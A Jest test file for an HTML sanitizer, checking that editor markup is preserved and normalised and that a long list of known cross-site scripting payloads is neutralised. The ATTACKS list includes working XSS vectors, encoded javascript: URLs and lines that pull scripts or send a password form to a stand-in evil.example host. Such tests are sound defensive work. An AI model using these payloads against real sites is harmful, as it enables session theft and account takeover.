import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { cleanEach, cleanHtml, mapImageAddresses } from './clean-html.ts';

describe('output of the rich text editor is preserved', () => {
  test.each([
    '<p>text</p>',
    '<h2>a</h2><h3>b</h3><h4>c</h4>',
    '<p><strong>a</strong><em>b</em><u>c</u><s>d</s></p>',
    '<ul><li>a</li><li><p>b</p></li></ul>',
    '<ol start="3"><li>a</li></ol>',
    '<blockquote><p>said</p></blockquote>',
    '<p>one<br />two</p><hr />',
    '<p style="text-align:center" dir="rtl">نص</p>',
    '<table><thead><tr><th colspan="2">a</th></tr></thead><tbody><tr><td rowspan="2">b</td><td>c</td></tr></tbody></table>',
    '<p><img src="/images/abc-1" alt="A" width="640" height="480" /></p>',
    '<p><img src="/small-images/abc_1" alt="" /></p>',
    '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener nofollow">x</a></p>',
    '<p><a href="/portals/doi-suthep?provider=demo" title="t">x</a></p>',
    '<p><a href="tel:+6621234567" rel="noopener nofollow">call</a> <a href="mailto:a@example.com" rel="noopener nofollow">write</a></p>',
    '<p>5 &lt; 6 &amp; ภาษาไทย 中文 😀</p>',
  ])('[T-11] %s', (html) => {
    expect(cleanHtml(html)).toBe(html);
  });
});

describe('similar markup is normalised', () => {
  test.each([
    ['<h1>a</h1><h5>b</h5>', '<h2>a</h2><h4>b</h4>'],
    ['<b>a</b><i>b</i><strike>c</strike>', '<strong>a</strong><em>b</em><s>c</s>'],
    ['<div>a</div><div>b</div>', '<p>a</p><p>b</p>'],
    ['<span style="color:red">a</span>', 'a'],
    ['<p style="text-align: right; color: red; position: fixed">a</p>', '<p style="text-align:right">a</p>'],
    ['<p class="x" id="y" onclick="z()" data-q="1">a</p>', '<p>a</p>'],
    [
      '<a href="https://example.com" target="_blank" rel="opener">a</a>',
      '<a href="https://example.com/" rel="noopener nofollow">a</a>',
    ],
    ['<img src="/images/abc?s=signature">', '<img src="/images/abc" alt="" />'],
    ['plain & simple', 'plain &amp; simple'],
  ])('[T-11] %s', (html, clean) => {
    expect(cleanHtml(html)).toBe(clean);
  });
});

/** Known attacks on other sanitizers; only text and harmless elements may remain. */
const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<p><p<script>alert(1)</script><p>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="/images/a" onerror="alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src="https://evil.example/track.gif">',
  '<img src="//evil.example/images/a">',
  '<img src="/images/../api/auth/login">',
  '<img src="/images/a" srcset="https://evil.example/a 2x">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<style>@import "//evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://a.example" onmouseover=alert(1)>x</a>',
  '<a href="https://a.example/"onclick="alert(1)">x</a>',
  "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="text-align:center;background-image:url(//evil.example)">x</p>',
  '<p style="text-align:expression(alert(1))">x</p>',
  '<p style="text-align:\\63 enter\\;}</style><script>">x</p>',
  '<p dir="rtl\' onclick=\'alert(1)">x</p>',
  '<p title="<!--"><img src=x onerror=alert(1)><!-- -->',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p <script>alert(1)</script>>x',
  '<p/onclick=alert(1)//>x</p>',
  '<td background="javascript:alert(1)">x</td>',
  '<table><td><img src=1 onerror=alert(1)></table>',
  '<body onload=alert(1)><input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x onclick=alert(1) tabindex=1 id=x>x</x>',
  '<custom-element onconnected=alert(1)>x',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<<script>alert(1);//<</script>',
  '<a href="https://x"><a href="javascript:alert(1)">nested</a>',
  `${'<p>'.repeat(500)}<script>alert(1)</script>`,
];

/** Every tag of cleaned HTML matches this; any other angle bracket is an entity. */
const TAG =
  /<\/?(?:p|h[234]|blockquote|ul|ol|li|hr|br|strong|em|u|s|a|img|table|caption|thead|tbody|tfoot|tr|th|td)(?: (?:href="(?:https?:|tel:|mailto:|\/(?![/\\]))[^"<>]*"|src="\/(?:small-)?images\/[\w-]+"|rel="noopener nofollow"|(?:title|alt)="[^"<>]*"|(?:width|height|start|colspan|rowspan)="[^"<>]*"|dir="(?:ltr|rtl|auto)"|style="text-align:\w+"))*(?: \/)?>/g;

const expectHarmless = (html: string) => {
  const clean = cleanHtml(html);
  expect(clean.replace(TAG, '')).not.toMatch(/[<>]/);
  expect(cleanHtml(clean)).toBe(clean);
};

test.each(ATTACKS)('[T-11] %s is made harmless', (attack) => {
  expectHarmless(attack);
  expectHarmless(`<p>before ${attack} after</p>`);
  expectHarmless(`<table><tr><td><a href="https://a.example/">${attack}`);
});

test('[T-11] any combination comes out harmless, and clean HTML stays unchanged', () => {
  const piece = fc.oneof(
    fc.constantFrom(...ATTACKS.slice(0, -1)),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '`',
      '=',
      '/',
      '&',
      '&lt;',
      '&quot',
      ' ',
      '\0',
      '-->',
      '<!--',
      '<p',
      'style=',
    ),
    fc.constantFrom(
      '<p>',
      '</p>',
      '<a href="',
      '<img src="/images/a"',
      '<table>',
      '<li>',
      '</a>',
      '</table>',
      '<ul>',
    ),
    fc.string({ maxLength: 5 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => expectHarmless(pieces.join(''))),
    { numRuns: 500 },
  );
});

test('the pictures of cleaned HTML can be given other addresses', () => {
  const html = cleanHtml(
    '<img src="/images/a"><p><img alt="b" src="/small-images/b"><img src="/images/a?w=640"></p>',
  );
  expect(mapImageAddresses(html, (address) => `${address}#`)).toContain('src="/small-images/b#" alt="b"');
});

test('cleans each text in a task of its own, and the same text once', async () => {
  let tasks = 0;
  const count = (): void => {
    tasks += 1;
    counting = setImmediate(count);
  };
  let counting = setImmediate(count);
  const cleaned = await cleanEach(['<b>a</b>', '<i>b</i>', '<b>a</b>']);
  clearImmediate(counting);
  expect(tasks).toBeGreaterThanOrEqual(2);
  expect([...cleaned]).toEqual([
    ['<b>a</b>', '<strong>a</strong>'],
    ['<i>b</i>', '<em>b</em>'],
  ]);
});
